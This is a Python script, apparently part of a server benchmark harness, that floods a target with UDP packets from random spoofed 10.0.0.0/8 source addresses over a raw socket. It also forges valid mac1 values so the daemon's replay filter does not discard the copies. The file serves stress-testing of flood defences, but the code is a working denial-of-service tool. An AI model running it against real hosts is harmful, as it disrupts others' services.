#!/usr/bin/python3
"""Spoofed-source UDP flood for bench/flood (root: a raw socket with IP_HDRINCL).

Reads datagrams from --pool (each: 2-byte big-endian length, then the bytes), and sends
them in turn to --dst:--port, each from a new random source address in 10.0.0.0/8 (never
in --avoid, the /16 of the bench's own veth), UDP checksum 0, at --rate datagrams/s (0 = as
fast as it goes) for --seconds. With --mac1-key HEX (the server's v2 mac1 key), the pool is
first grown to --unique distinct datagrams (8 random bytes in `enc'`, mac1 recomputed), as an
attacker with the server's public key makes them at no cost: a small pool resent in turn would
be a replay flood, which the daemon drops as copies before any open. Grown before "ready", so
the hashing costs nothing while sending. Protocol of bench/flood children: prints
"ready", waits for a line on stdin, sends, prints one JSON line {"sent": N, "seconds": S,
"errors": E}.
"""
import hashlib
import argparse
import json
import os
import socket
import struct
import sys
import time


def load_pool(path):
    with open(path, "rb") as f:
        raw = f.read()
    out, at = [], 0
    while at + 2 <= len(raw):
        (n,) = struct.unpack_from("!H", raw, at)
        at += 2
        if n == 0 or at + n > len(raw):
            raise SystemExit("spoofer: truncated pool file")
        out.append(raw[at:at + n])
        at += n
    if not out:
        raise SystemExit("spoofer: empty pool")
    return out


def packet(payload, dst, port):
    # IPv4 header: the kernel fills in total length, id (when 0) and the checksum.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                     b"\0\0\0\0", socket.inet_aton(dst))
    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0)
    return bytearray(ip + udp + payload)


def grow(pkts, mac1_key, count):
    """`count` distinct packets from `pkts`: 8 random bytes in enc', mac1 recomputed."""
    base = hashlib.sha256(mac1_key)
    rnd = os.urandom(8 * count)
    out = []
    for i in range(count):
        p = bytearray(pkts[i % len(pkts)])
        # IP (20) + UDP (8) headers, then the datagram: enc' first, mac1 ‖ mac2 (zero) last.
        p[28:36] = rnd[8 * i:8 * i + 8]
        h = base.copy()
        m = len(p) - 32
        h.update(bytes(p[28:m]))
        p[m:m + 16] = h.digest()[:16]
        out.append(p)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pool", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--rate", type=float, default=0)
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--mac1-key", default="")
    ap.add_argument("--unique", type=int, default=250000)
    ap.add_argument("--avoid", default="10.213")  # 10.B: a /16 never used as a source
    a = ap.parse_args()
    seconds = min(max(a.seconds, 0.1), 120)
    # The second octet of the veth's own /16 (10.213.0.0/16): those would be neighbours.
    avoid_b = int(a.avoid.split(".")[1])
    pkts = [packet(p, a.dst, a.port) for p in load_pool(a.pool)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
    target = (a.dst, 0)
    if a.mac1_key:
        pkts = grow(pkts, bytes.fromhex(a.mac1_key), min(max(a.unique, 1), 2000000))
    print("ready", flush=True)
    sys.stdin.readline()

    sent = errors = 0
    npk = len(pkts)
    batch = 64
    rnd = b""
    t0 = time.perf_counter()
    end = t0 + seconds
    now = t0
    while now < end:
        if a.rate > 0:
            due = int((now - t0) * a.rate) + 1
            if sent + errors >= due:
                time.sleep(min(0.0005, max(0.0, (sent + errors + 1) / a.rate - (now - t0))))
                now = time.perf_counter()
                continue
            n = min(batch, due - sent - errors)
        else:
            n = batch
        if len(rnd) < 3 * n:
            rnd = os.urandom(3 * 4096)
        for i in range(n):
            p = pkts[(sent + errors) % npk]
            b1, b2, b3 = rnd[3 * i], rnd[3 * i + 1], rnd[3 * i + 2]
            if b1 == avoid_b:
                b1 ^= 1
            p[12] = 10
            p[13] = b1
            p[14] = b2
            p[15] = b3
            try:
                sock.sendto(p, target)
                sent += 1
            except OSError:
                errors += 1
        rnd = rnd[3 * n:]
        now = time.perf_counter()
    print(json.dumps({"sent": sent, "seconds": now - t0, "errors": errors}), flush=True)


if __name__ == "__main__":
    main()
